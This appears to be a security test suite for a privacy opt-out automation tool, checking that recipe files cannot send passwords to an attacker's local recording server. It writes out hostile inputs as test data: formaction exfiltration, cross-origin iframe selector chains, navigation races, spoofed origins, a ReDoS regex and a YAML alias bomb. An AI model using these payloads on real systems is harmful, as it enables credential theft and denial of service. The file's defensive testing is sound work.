"""Trust boundaries, tried as an attacker would: a recipe is untrusted input (it may come from a
stranger), so it can never move a stored password, a session or a profile to an origin the person
did not approve. Each test reproduces one finding against local servers, one of them an
attacker's server that records everything it receives."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import struct
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
import yaml
from flask import Flask, redirect, request

from optout.domain.accounts import Account
from optout.practice.server import Served
from optout.store import credentials
from optout.store.credentials import KeyringSecrets
from tests.attacker import Recorder, hostile_recipe, serving
from tests.conftest import invoke, results_of

PASSWORD = "pw-Tr0ub4dor&3-staple"

pytestmark = pytest.mark.usefixtures("linkedin_toggle_only")


# --- credentials are bound to the shipped recipe's origins -----------------------------------------


def test_bulk_password_commands_never_follow_an_override_origin(tmp_path, recorder):
    """Finding 1: an override that changes only `origin:` got a roster's passwords."""
    folder = hostile_recipe(tmp_path / "override", recorder.origin)
    roster = tmp_path / "members.csv"
    roster.write_text("platform,account,username,password_command\n"
                      f"linkedin,ada,ada@example.com,echo {PASSWORD}\n")
    result = invoke("--recipes", str(folder), "bulk", str(roster), "--json")
    assert result.exit_code == 2
    assert f"--trust-origin {recorder.origin}" in result.stderr
    assert "Traceback" not in result.output
    assert recorder.received == []


def test_login_never_binds_credentials_to_an_override_origin(tmp_path, recorder):
    """Finding 2: `login --verify` with an override installed typed the password there at once;
    without --verify the next run did."""
    folder = hostile_recipe(tmp_path / "override", recorder.origin)
    for verify in ("--verify", None):
        result = invoke("--recipes", str(folder), "login", "linkedin", "--username",
                        "ada@example.com", "--password-stdin", *filter(None, [verify]),
                        input=f"{PASSWORD}\n")
        assert result.exit_code == 2, result.output
        assert "shipped with optout does not use" in result.stderr
        assert f"--trust-origin {recorder.origin}" in result.stderr
    assert credentials.accounts("linkedin") == []
    assert recorder.received == []


def test_an_override_adding_a_sign_in_origin_is_refused_too(tmp_path, recorder):
    """allowed_origins and sign_in.origin are origins credentials go to, like `origin`."""
    folder = hostile_recipe(tmp_path / "override", "https://www.linkedin.com",
                            **{"allowed_origins: []": f"allowed_origins: [{recorder.origin}]",
                               "  path: /login\n": f"  origin: {recorder.origin}\n  path: /login\n"})
    result = invoke("--recipes", str(folder), "login", "linkedin", "--username", "ada@example.com",
                    "--password-stdin", input=f"{PASSWORD}\n")
    assert result.exit_code == 2 and recorder.origin in result.stderr
    assert credentials.accounts("linkedin") == []


def test_an_origin_approved_by_name_is_bound_and_shown(tmp_path):
    folder = hostile_recipe(tmp_path / "override", "https://mirror.example.org")
    result = invoke("--recipes", str(folder), "login", "linkedin", "--username", "ada@example.com",
                    "--password-stdin", "--trust-origin", "https://mirror.example.org",
                    input=f"{PASSWORD}\n")
    assert result.exit_code == 0, result.output
    assert "go only to https://mirror.example.org" in result.stdout
    listed = json.loads(invoke("--recipes", str(folder), "list", "--json").stdout)
    [linkedin] = [p for p in listed["platforms"] if p["platform"] == "linkedin"]
    assert linkedin["credentials"] == [{"account": "default",
                                        "origins": ["https://mirror.example.org"],
                                        "trusted_by_flag": ["https://mirror.example.org"]}]
    table = invoke("--recipes", str(folder), "list").stdout
    assert "linkedin/default" in table and "trusted with --trust-origin" in table


def test_list_shows_where_each_account_s_credentials_go(practice):
    assert invoke("login", "linkedin", "--username", "ada@example.com", "--password-stdin",
                  "--origin", practice.origin, input=f"{PASSWORD}\n").exit_code == 0
    assert invoke("login", "linkedin", "--account", "work", "--username", "ada@work.example",
                  "--password-stdin", input=f"{PASSWORD}\n").exit_code == 0
    listed = json.loads(invoke("list", "--json").stdout)
    [linkedin] = [p for p in listed["platforms"] if p["platform"] == "linkedin"]
    assert {c["account"]: c["origins"] for c in linkedin["credentials"]} == {
        "default": [practice.origin], "work": ["https://www.linkedin.com"]}


def test_a_form_sends_nothing_to_an_origin_the_account_is_not_bound_to(tmp_path, recorder):
    """Finding 7: an override form sent the stored username and the profile to any origin the
    recipe listed, though the account was bound to the platform's origin only."""
    app = Flask("platform")
    app.add_url_rule("/object", "form", lambda: (
        f'<form method="post" action="{recorder.origin}/collect"><label for="n">Name</label>'
        '<input id="n" name="n"><label for="e">Email</label><input id="e" name="e">'
        '<button>Submit</button></form>'))
    with Served(app) as platform:
        folder = hostile_recipe(
            tmp_path / "override", platform.origin, extra=form_setting(),
            **{"allowed_origins: []": f"allowed_origins: [{recorder.origin}]"})
        credentials.store(Account("linkedin", "default", "ada@example.com", (platform.origin,)),
                          PASSWORD)
        assert invoke("profile", "--name", "Ada Lovelace", "--email", "ada@example.com",
                      "--country", "United Kingdom").exit_code == 0
        result = invoke("--recipes", str(folder), "run", "linkedin", "--setting", "objection",
                        "--json", "--send-forms")
    assert result.exit_code == 1, result.output
    [row] = results_of(result)
    assert row["status"] == "failed" and "nothing was sent" in row["message"]
    assert not recorder.saw("Lovelace") and not recorder.saw("ada%40example.com")
    assert recorder.received == []



def form_setting(reference: str | None = None) -> str:
    """A recipe's form setting (YAML) at /object: the profile's name and email."""
    return ("  - id: objection\n    title: Objection\n    type: form\n    path: /object\n"
            "    fields:\n      - {target: {label: Name}, from: name}\n"
            "      - {target: {label: Email}, from: email}\n"
            "    submit: {role: button, name: Submit}\n"
            "    confirmation: {text: Thanks}\n    source: https://example.org\n"
            "    live_verified: null\n" + (f"    reference: '{reference}'\n" if reference else ""))


# --- typing only into the right element ------------------------------------------------------------

USERNAME = '<label for="u">Email or phone</label><input id="u" name="u">'
PASSWORD_BOX = '<label for="p">Password</label><input id="p" name="p" type="password">'


def run_hostile(tmp_path, platform, **replace: str):
    """A run of the platform's account, bound to the platform's origin, with an override recipe."""
    folder = hostile_recipe(tmp_path / "override", platform.origin, **replace)
    credentials.store(Account("linkedin", "default", "ada@example.com", (platform.origin,)),
                      PASSWORD)
    return invoke("--recipes", str(folder), "run", "linkedin", "--json")


@pytest.mark.parametrize("chained", [
    "iframe >> internal:control=enter-frame >> {}",
    "iframe /* >> internal:control=enter-frame >> {}/**/",  # hidden from cssselect in a comment
])
def test_a_css_target_cannot_chain_into_another_origin_s_frame(tmp_path, recorder, chained):
    """Finding 3: Playwright's selector syntax typed the password into a cross-origin iframe."""
    page = f'<form method="post">{USERNAME}</form><iframe src="{recorder.origin}/frame"></iframe>'
    with serving(Recorder(page, platform=True)) as platform:
        result = run_hostile(tmp_path, platform, **{
            "password: {label: Password, exact: true}":
                f'password: {{css: "{chained.format("#p")}"}}',
            "submit: {role: button, name: Sign in, exact: true}":
                f'submit: {{css: "{chained.format("button")}"}}'})
    assert result.exit_code == 2
    assert "is not plain CSS" in result.stderr and "Traceback" not in result.output
    assert not recorder.saw(PASSWORD)


def test_a_second_button_posting_elsewhere_never_gets_the_password(tmp_path, recorder):
    """Finding 4: the form's action was checked, not the clicked button's formaction."""
    page = (f'<form method="post" action="/login">{USERNAME}{PASSWORD_BOX}'
            f'<button formaction="{recorder.origin}/steal">Sign in</button></form>')
    with serving(Recorder(page, platform=True)) as platform:
        result = run_hostile(tmp_path, platform)
    [row] = results_of(result)
    assert row["status"] == "failed" and recorder.origin.split("//")[1] in row["message"]
    assert "nothing was submitted" in row["message"]
    assert not recorder.saw(PASSWORD) and not platform.saw(PASSWORD)


def test_a_navigation_raced_by_the_typing_gets_nothing(tmp_path, recorder):
    """Finding 5: the username box's input event sent the page to another origin, and the password
    was typed into the new page."""
    page = (f'<form method="post"><label for="u">Email or phone</label>'
            f'<input id="u" name="u" oninput="location = \'{recorder.origin}/login\'">'
            f'{PASSWORD_BOX}<button>Sign in</button></form>')
    for _ in range(3):
        recorder.received.clear()
        with serving(Recorder(page, platform=True)) as platform:
            result = run_hostile(tmp_path, platform)
        [row] = results_of(result)
        assert row["status"] == "failed", row
        assert not recorder.saw(PASSWORD)
        assert {r["method"] for r in recorder.received} <= {"GET"}


def test_the_password_goes_only_into_a_password_box(tmp_path):
    """Finding 6: an override pointed `password` at a public comment box on the bound origin, and
    the password was published there. Where the page has a password box, the structure finds it
    (and its own form's button) whatever the recipe points at; where it has none, the recipe's
    pointer is refused."""
    comments = ('<form method="post" action="/comments"><label for="c">Comment</label>'
                '<textarea id="c" name="c"></textarea><button>Post comment</button></form>')
    pointed_at_comments = {
        "password: {label: Password, exact: true}": "password: {label: Comment}",
        "submit: {role: button, name: Sign in, exact: true}":
            "submit: {role: button, name: Post comment}"}
    page = f'<form method="post" action="/login">{USERNAME}{PASSWORD_BOX}<button>Sign in</button></form>'
    with serving(Recorder(page + comments, platform=True)) as platform:
        run_hostile(tmp_path, platform, **pointed_at_comments)
    assert not [r for r in platform.received if r["path"] == "/comments"]
    assert [r["path"] for r in platform.received if r["method"] == "POST"] == ["/login"]
    no_password_box = f'<form method="post" action="/login">{USERNAME}<button>Next</button></form>'
    with serving(Recorder(no_password_box + comments, platform=True)) as platform:
        result = run_hostile(tmp_path, platform, **pointed_at_comments)
    [row] = results_of(result)
    assert row["status"] == "failed" and "not a password box" in row["message"]
    assert not platform.saw(PASSWORD)


def test_a_submit_button_of_another_form_never_sends_the_password(tmp_path):
    """The password typed into the sign-in form, submitted by another form's button."""
    page = (f'<form method="post" action="/login">{USERNAME}{PASSWORD_BOX}</form>'
            '<form method="post" action="/comments"><input name="c" type="hidden">'
            '<button>Sign in</button></form>')
    with serving(Recorder(page, platform=True)) as platform:
        result = run_hostile(tmp_path, platform)
    [row] = results_of(result)
    assert row["status"] == "failed" and "not in the form" in row["message"]
    assert [r for r in platform.received if r["method"] == "POST"] == []


# --- secrets in transformed forms ------------------------------------------------------------------

# Changes under URL, form, JSON and HTML encoding; `~` and `!` are encoded by browsers' forms
# differently from Python's quote.
ODD_PASSWORD = "pw-Tr0ub4dor&3 staple/é+x~!"


@pytest.fixture
def get_form_platform():
    """A platform whose sign-in form is sent by GET (the password lands in the address), and which
    then names that address in its page: a URL-encoded password in what optout reports."""
    app = Flask("get-form")
    app.add_url_rule("/login", "login", lambda: (
        redirect("/mypreferences/d/settings/data-for-ai-improvement?" + request.query_string.decode())
        if request.args else
        f'<form method="get" action="/login">{USERNAME}{PASSWORD_BOX}<button>Sign in</button></form>'))
    app.add_url_rule("/mypreferences/d/settings/data-for-ai-improvement", "settings", lambda: (
        f"<p>Nothing here for {request.url}</p>" if request.args else redirect("/login")))
    with Served(app) as served:
        yield served


def _all_forms_of(secret: str) -> list[str]:
    browser_form = quote_plus(secret, safe="*-._").replace("~", "%7E")
    return [secret, quote(secret, safe=""), quote_plus(secret), browser_form,
            quote(secret, safe="!'()*-._~"), json.dumps(secret)[1:-1],
            base64.b64encode(secret.encode()).decode()]


def test_a_url_encoded_password_is_masked_everywhere(tmp_path, get_form_platform, recorder,
                                                     optout_home):
    """Finding 8: a password sent by a GET form came back URL-encoded in the page address, and
    reached stdout, the --debug log, the history and a notification body."""
    credentials.store(Account("linkedin", "default", "ada@example.com",
                              (get_form_platform.origin,)), ODD_PASSWORD)
    folder = hostile_recipe(tmp_path / "override", get_form_platform.origin)
    result = invoke("--debug", "--recipes", str(folder), "run", "linkedin", "--json", "--timeout",
                    "5", "--notify", f"json://{recorder.origin.split('//')[1]}/notify")
    [row] = results_of(result)
    assert row["status"] == "failed" and "data-for-ai-improvement?" in row["message"]
    assert recorder.received, "the notification was sent"
    stored = b"".join(p.read_bytes() for p in optout_home.rglob("*") if p.is_file())
    for form in _all_forms_of(ODD_PASSWORD):
        assert form not in result.stdout and form not in result.stderr, form
        assert not recorder.saw(form), form
        assert form.encode() not in stored, form


def test_debug_never_shows_a_notification_token(tmp_path, get_form_platform, recorder):
    """Finding 9: --debug printed notification URLs with their tokens (Apprise's own lines)."""
    token = "Zx81TokenOfTheWebhook"
    credentials.store(Account("linkedin", "default", "ada@example.com",
                              (get_form_platform.origin,)), ODD_PASSWORD)
    folder = hostile_recipe(tmp_path / "override", get_form_platform.origin)
    result = invoke("--debug", "--recipes", str(folder), "run", "linkedin", "--timeout", "5",
                    "--notify", f"json://{recorder.origin.split('//')[1]}/hooks/{token}")
    assert result.exit_code == 1  # failed, and told
    assert recorder.received and recorder.received[0]["path"] == f"/hooks/{token}"
    assert token not in result.output and token not in result.stderr


# --- what is stored and sent, with runs at once ----------------------------------------------------

ROOT = Path(__file__).parent.parent


def test_two_runs_at_once_send_a_form_once(tmp_path, practice, optout_home):
    """Finding 10: two runs of the same account at once each sent the objection form."""
    practice.world.add_user("ada@example.com", PASSWORD)
    roster = tmp_path / "members.csv"
    roster.write_text("platform,account,username,password_command,name,email,country\n"
                      f"linkedin,ada,ada@example.com,printf %s {PASSWORD},Ada Lovelace,"
                      "ada@example.com,United Kingdom\n")
    env = {**os.environ, "OPTOUT_HOME": str(optout_home), "PYTHONPATH": str(ROOT),
           "PYTHON_KEYRING_BACKEND": "tests.memory_keyring.MemoryKeyring"}
    env.pop("OPTOUT_RECIPE_PATH")  # LinkedIn's whole recipe, its objection form included
    runs = [subprocess.Popen([sys.executable, "-m", "optout", "bulk", str(roster), "--origin",
                              practice.origin, "--json", "--send-forms"], env=env,
                             stdin=subprocess.DEVNULL,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for _ in range(2)]
    outputs = [run.communicate(timeout=120) for run in runs]
    assert all(out for out, _ in outputs), outputs
    forms = [row for out, _ in outputs for row in json.loads(out)["results"]
             if row["setting"] == "data-processing-objection"]
    assert len(practice.world.user("ada@example.com").submissions) == 1
    assert sorted(row["status"] for row in forms) == ["already", "changed"], outputs


STORE_WHEN_TOLD = """
import sys, time
from pathlib import Path
from optout.store import credentials
from optout.domain.accounts import Account
go = Path(sys.argv[2])
while not go.exists():
    time.sleep(0.005)
credentials.store(Account("linkedin", sys.argv[1], "a@example.com", ("https://www.linkedin.com",)),
                  "pw-never-mind")
"""


def test_accounts_stored_at_once_are_all_kept(tmp_path, optout_home):
    """Finding 11: twelve logins at once lost three accounts from accounts.json (read-modify-write
    without a lock), though their passwords stayed in the keyring."""
    names = [f"member{n}" for n in range(12)]
    go = tmp_path / "go"
    env = {**os.environ, "OPTOUT_HOME": str(optout_home), "PYTHONPATH": str(ROOT),
           "PYTHON_KEYRING_BACKEND": "tests.memory_keyring.MemoryKeyring"}
    logins = [subprocess.Popen([sys.executable, "-c", STORE_WHEN_TOLD, name, str(go)], env=env)
              for name in names]
    time.sleep(2)  # every process started and waiting
    go.touch()
    assert [login.wait(timeout=60) for login in logins] == [0] * len(names)
    assert [a.name for a in credentials.accounts("linkedin")] == sorted(names)


# --- authenticator secrets -----------------------------------------------------------------------


@pytest.mark.parametrize("given", [
    "JBSWY3DPEHPK3PXP",  # 80 bits, as Facebook and GitHub issue them
    "jbsw y3dp ehpk 3pxp",
    "otpauth://totp/GitHub:ada?secret=JBSWY3DPEHPK3PXP&issuer=GitHub",
])
def test_an_80_bit_authenticator_secret_is_accepted(given):
    """Finding 14: pyotp's generator refused secrets under 112 bits, so login told a person with
    an 80-bit secret 'That is not an authenticator secret'."""
    result = invoke("login", "linkedin", "--username", "ada@example.com", "--password-stdin",
                    "--totp-stdin", input=f"{PASSWORD}\n{given}\n")
    assert result.exit_code == 0, result.output
    assert "80 bits" in result.stderr
    from optout.signin.totp import current_code
    stored = KeyringSecrets().totp_secret(credentials.accounts("linkedin")[0])
    assert stored is not None
    # The code RFC 6238 gives for this key now (computed here by hand, not by pyotp).
    before = int(time.time()) // 30
    got = current_code(stored)
    assert got in {_rfc6238(base64.b32decode("JBSWY3DPEHPK3PXP"), counter)
                   for counter in (before, int(time.time()) // 30)}


def _rfc6238(key: bytes, counter: int) -> str:
    digest = hmac.new(key, struct.pack(">Q", counter), hashlib.sha1).digest()
    offset = digest[-1] & 0x0F
    return f"{(struct.unpack('>I', digest[offset:offset + 4])[0] & 0x7FFFFFFF) % 10**6:06d}"


def test_a_backtracking_reference_pattern_is_bounded(tmp_path, optout_home):
    """Finding 12: a `reference` regex with catastrophic backtracking blocked the whole event loop
    (70 s, doubling with every 1.5 characters of page text)."""
    app = Flask("platform")
    form = ('<form method="post"><label for="n">Name</label><input id="n" name="n">'
            '<label for="e">Email</label><input id="e" name="e"><button>Submit</button></form>')
    app.add_url_rule("/object", "form", lambda: form if request.method == "GET" else
                     f"<p>Thanks. Case {'x' * 64}</p>", methods=["GET", "POST"])
    with Served(app) as platform:
        folder = hostile_recipe(tmp_path / "override", platform.origin,
                                extra=form_setting(reference="Case ((x+x+)+y)"))
        credentials.store(Account("linkedin", "default", "ada@example.com", (platform.origin,)),
                          PASSWORD)
        assert invoke("profile", "--name", "Ada Lovelace", "--email",
                      "ada@example.com").exit_code == 0
        env = {**os.environ, "PYTHONPATH": str(ROOT),
               "PYTHON_KEYRING_BACKEND": "tests.memory_keyring.MemoryKeyring"}
        # In a process of its own: an unbounded pattern would run for longer than the universe.
        run = subprocess.run([sys.executable, "-m", "optout", "--recipes", str(folder), "run",
                              "linkedin", "--setting", "objection", "--json", "--send-forms"],
                             env=env,
                             capture_output=True, text=True, timeout=90, stdin=subprocess.DEVNULL)
    [row] = json.loads(run.stdout)["results"]
    assert row["status"] == "changed" and row["verified"], row
    assert "Reference" not in row["message"]


# --- clear errors for damaged, hostile or huge files ----------------------------------------------

SHIPPED = (Path(__file__).parent.parent / "recipes" / "linkedin" / "recipe.yaml").read_text()


@pytest.mark.parametrize(("text", "problem"), [
    ("platform: linkedin\nname: " + "[" * 20_000 + "]" * 20_000 + "\n", "nested too deeply"),
    (SHIPPED.replace("origin: https://www.linkedin.com\n",
                     "origin: https://www.linkedin.com\norigin: https://evil.example\n", 1),
     "line 7: 'origin' is given twice (first on line 6)"),
    ("x" * (50 * 1024 * 1024), "too large for a recipe"),
    ("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 9)),
     "anchors and aliases"),  # a few hundred bytes that stand for 10^9 values
    *((SHIPPED.replace("origin: https://www.linkedin.com\n", f"origin: '{origin}'\n", 1),
       "line 6: origin: ") for origin in ("https://www.linkedin%2ecom", "https://linkedín.com",
                                          "https://www.linkedin.com:443",
                                          "https://www.linkedin.com\\@evil.example")),
])
def test_a_hostile_recipe_file_gets_a_clear_error(tmp_path, text, problem):
    """Finding 13: a recipe nested 20,000 levels deep gave "Unexpected error"; a 50 MB one made
    every command take two minutes; duplicate keys were accepted (the last silently won);
    non-canonical origins were accepted."""
    folder = tmp_path / "shared"
    folder.mkdir()
    (folder / "linkedin.yaml").write_text(text)
    result = invoke("--recipes", str(folder), "list")
    assert result.exit_code == 2, result.output
    assert str(folder / "linkedin.yaml") in result.stderr and problem in result.stderr
    assert "Unexpected" not in result.stderr and "Traceback" not in result.output


def test_accounts_json_of_the_wrong_shape_is_named(optout_home):
    optout_home.mkdir(mode=0o700, exist_ok=True)
    (optout_home / "accounts.json").write_text('{"linkedin": ["ada"]}')
    result = invoke("list")
    assert result.exit_code == 2
    assert str(optout_home / "accounts.json") in result.stderr
    assert "keyring" in result.stderr and "Unexpected" not in result.stderr


def test_a_damaged_history_is_named_and_never_thrown_away(optout_home):
    from optout.store.history import History

    with History() as history:  # a real history, with enough rows to span several pages
        run = history.start_run("run linkedin")
        for n in range(400):
            history.note_form_sent("linkedin", f"member{n}", "https://www.linkedin.com", "objection")
        history.finish_run(run)
    path = optout_home / "history.sqlite3"
    data = bytearray(path.read_bytes())
    data[100:4096] = b"\xff" * 3996  # the schema's page damaged, the file header intact
    path.write_bytes(data)
    result = invoke("status")
    assert result.exit_code == 2, result.output
    assert str(path) in result.stderr and "damaged" in result.stderr and ".recover" in result.stderr
    assert "start a new one" not in result.stderr and "Traceback" not in result.output


def test_a_full_disk_is_reported_as_such_and_keeps_the_history(optout_home, monkeypatch):
    import sqlite3

    def full(*args, **kwargs):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(sqlite3, "connect", full)
    result = invoke("status")
    assert result.exit_code == 2
    assert "full" in result.stderr and "nothing was lost" in result.stderr
    assert "move it aside" not in result.stderr and "start a new one" not in result.stderr


def test_a_full_disk_while_saving_the_session_keeps_the_account_going(practice, member,
                                                                      monkeypatch, caplog):
    import errno

    ada = member()

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("optout.store.sessions.write_private", full)
    result = invoke("run", "linkedin", "--origin", practice.origin, "--json")
    [row] = results_of(result)
    assert row["status"] == "changed" and row["verified"], row
    assert practice.world.user(ada.username).sign_ins == 1
    assert "disk is full" in caplog.text


def test_a_data_folder_open_to_others_is_made_private(optout_home):
    optout_home.mkdir(exist_ok=True)  # (the module's fixture approved a recipe in it)
    os.chmod(optout_home, 0o777)
    assert invoke("list").exit_code == 0
    assert optout_home.stat().st_mode & 0o777 == 0o700


def test_a_recipe_that_is_a_device_is_refused(tmp_path):
    folder = tmp_path / "shared"
    folder.mkdir()
    (folder / "linkedin.yaml").symlink_to("/dev/zero")
    result = invoke("--recipes", str(folder), "list")
    assert result.exit_code == 2 and "not a regular file" in result.stderr


def test_a_per_site_platform_s_example_site_is_never_trusted(tmp_path):
    """The shipped Squarespace recipe's `origin` is an example site anyone could register: an
    override signing in there gets no password, though the person's own site is typed."""
    shipped = (Path(__file__).parent.parent / "recipes" / "squarespace" / "recipe.yaml").read_text()
    example = yaml.safe_load(shipped)["origin"]
    override = yaml.safe_load(shipped)
    override["allowed_origins"] = [*override.get("allowed_origins", []), example]
    override["sign_in"]["origin"] = example
    folder = tmp_path / "shared"
    folder.mkdir()
    (folder / "squarespace.yaml").write_text(yaml.safe_dump(override))
    result = invoke("--recipes", str(folder), "login", "squarespace", "--origin",
                    "https://mysite.squarespace.com", "--username", "ada@example.com",
                    "--password-stdin", input=f"{PASSWORD}\n")
    assert result.exit_code == 2 and example in result.stderr, result.output
    assert credentials.accounts("squarespace") == []


def test_an_account_stored_before_binding_keeps_only_origins_it_would_get_today(optout_home):
    optout_home.mkdir(mode=0o700, exist_ok=True)
    (optout_home / "accounts.json").write_text(json.dumps({"linkedin": {
        "old": {"username": "ada@example.com",
                "origins": ["https://www.linkedin.com", "https://evil.example",
                            "http://127.0.0.1:5000"]}}}))
    [old] = credentials.accounts("linkedin")
    assert old.origins == ("https://www.linkedin.com", "http://127.0.0.1:5000")


def test_a_submit_button_that_is_not_a_button_element_still_signs_in(tmp_path):
    """A <div role=button> inside the sign-in form has no .form of its own: still the form's."""
    app = Flask("div-button")
    app.add_url_rule("/login", "login", lambda: redirect("/feed") if request.method == "POST" else (
        f'<form method="post" action="/login">{USERNAME}{PASSWORD_BOX}'
        '<div role="button" tabindex="0" onclick="this.closest(\'form\').submit()">Sign in</div>'
        '</form>'), methods=["GET", "POST"])
    app.add_url_rule("/feed", "feed", lambda: "<h1>Home</h1>")
    with Served(app) as platform:
        folder = hostile_recipe(tmp_path / "override", "https://www.linkedin.com")
        result = invoke("--recipes", str(folder), "login", "linkedin", "--origin", platform.origin,
                        "--username", "ada@example.com", "--password-stdin", "--verify",
                        input=f"{PASSWORD}\n")
    assert result.exit_code == 0, result.output


def test_practice_accounts_are_never_in_run_all(practice):
    """`run --all` sent the real profile in forms to the practice ports, which any local user
    can serve while the practice platform is not running."""
    practice.world.add_user("ada@example.com", PASSWORD)
    credentials.store(Account("linkedin", "practice", "ada@example.com", (practice.origin,)),
                      PASSWORD)
    result = invoke("run", "--all", "--json")
    assert result.exit_code == 2 and "No credentials are stored" in result.stderr
    assert practice.world.sign_in_attempts == []
    assert invoke("check", "--all", "--json").exit_code == 4  # read only: it is still checked
    assert invoke("run", "linkedin", "--account", "practice").exit_code == 0  # named: it runs
